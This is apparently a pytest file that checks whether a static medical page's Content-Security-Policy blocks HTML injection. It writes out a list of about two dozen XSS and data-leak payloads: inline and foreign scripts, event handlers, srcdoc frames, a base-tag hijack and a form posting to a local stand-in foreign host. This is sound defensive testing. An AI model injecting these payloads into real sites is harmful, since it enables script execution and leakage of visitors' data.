"""What a page of ours lets happen when somebody has written into its HTML: nothing.

The foreign host is a second server of this test. Each attack is also tried on the same page
without its policy, so that an attack that would never have worked is not counted.
"""

from __future__ import annotations

import re
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from functools import partial
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any, ClassVar

import pytest

PAGE = "diseases/aml.html"
POLICY = re.compile(r'<meta[^>]*http-equiv="Content-Security-Policy"[^>]*>')
#: name -> HTML put at the end of the body, {host} is the foreign host; a mark is a request or window.bad
ATTACKS = {
    "script in the page": "<script>window.bad=1</script>",
    "script of another host": '<script src="{host}/a.js"></script>',
    "module of another host": '<script type="module" src="{host}/a.js"></script>',
    "script in a data address": '<script src="data:text/javascript,window.bad=1"></script>',
    "handler of a picture": '<img src="/no.png" onerror="window.bad=1">',
    "handler of a drawing": '<svg onload="window.bad=1"></svg>',
    "handler of a box": '<details open ontoggle="window.bad=1"><p>x</p></details>',
    "frame with its own page": '<iframe srcdoc="<script>parent.bad=1</script>"></iframe>',
    "frame of another host": '<iframe src="{host}/page"></iframe>',
    "object of another host": '<object data="{host}/o.svg" type="image/svg+xml"></object>',
    "embedded file of another host": '<embed src="{host}/e.svg" type="image/svg+xml">',
    "picture of another host": '<img src="{host}/pixel.gif">',
    "picture of a drawing": '<svg><image href="{host}/pixel.gif" width="9" height="9"/></svg>',
    "picture set": '<img srcset="{host}/pixel.gif 1x">',
    "film of another host": '<video src="{host}/v.mp4" autoplay muted></video>',
    "poster of a film": '<video poster="{host}/p.gif"></video>',
    "sound of another host": '<audio src="{host}/a.mp3" autoplay></audio>',
    "stylesheet of another host": '<link rel="stylesheet" href="{host}/s.css">',
    "stylesheet in the page": "<style>body{{background:url({host}/bg.gif)}}</style>",
    "font of another host": "<style>@font-face{{font-family:f;src:url({host}/f.woff2)}}"
    "p{{font-family:f}}</style><p>x</p>",
    "preload of another host": '<link rel="preload" as="image" href="{host}/l.gif">',
    "base of all addresses": '<base href="{host}/"><img src="pixel.gif">',
    "form that sends itself": '<form id="f" action="{host}/form"><input name="a" value="b"></form>'
    '<button form="f" id="send">Send</button>',
}


@contextmanager
def _serving(handler: Callable[..., SimpleHTTPRequestHandler]) -> Iterator[str]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()
    thread.join()


class Host(SimpleHTTPRequestHandler):
    """A host whose answers stand in a table; what is asked of it is written down."""

    html = ""
    asked: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        if self.path == f"/{PAGE}":
            body, kind = self.html.encode(), "text/html; charset=utf-8"
        elif type(self) is Host:
            super().do_GET()
            return
        else:
            self.asked.append(self.path)
            script = self.path.endswith(".js")
            body = b"window.bad=1" if script else b"<p>x</p>"
            kind = "text/javascript" if script else "text/html"
        self.send_response(200)
        self.send_header("Content-Type", kind)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: object) -> None: ...


class Foreign(Host):
    """The host that no page may ask for anything."""


@pytest.fixture(scope="module")
def own(folder: Path) -> Iterator[str]:
    with _serving(partial(Host, directory=str(folder))) as address:
        yield address


@pytest.fixture(scope="module")
def foreign() -> Iterator[str]:
    with _serving(Foreign) as address:
        yield address


def _harm(browser: Any, own: str, html: str) -> list[str]:
    """What happened when the page was opened with these words in it."""
    Host.html = html
    Foreign.asked.clear()
    context = browser.new_context()
    page = context.new_page()
    page.goto(f"{own}/{PAGE}")
    if page.query_selector("#send"):
        page.locator("#send").click(no_wait_after=True)
    page.wait_for_timeout(150)
    left = [] if page.url.startswith(own) else [f"went to {page.url}"]
    ran = ["a script ran"] if not left and page.evaluate("window.bad === 1") else []
    context.close()
    return left + ran + [f"asked the other host for {path}" for path in Foreign.asked]


@pytest.mark.parametrize("name", ATTACKS)
def test_words_written_into_a_page_do_nothing(
    browser: Any, folder: Path, own: str, foreign: str, name: str
) -> None:
    html = (folder / PAGE).read_text(encoding="utf-8")
    attack = ATTACKS[name].replace("{{", "{").replace("}}", "}").replace("{host}", foreign)
    attacked = html.replace("</body>", f"{attack}</body>")
    assert attack in attacked and len(POLICY.findall(attacked)) == 1
    assert _harm(browser, own, attacked) == []
    assert _harm(browser, own, POLICY.sub("", attacked)), "this attack never works"
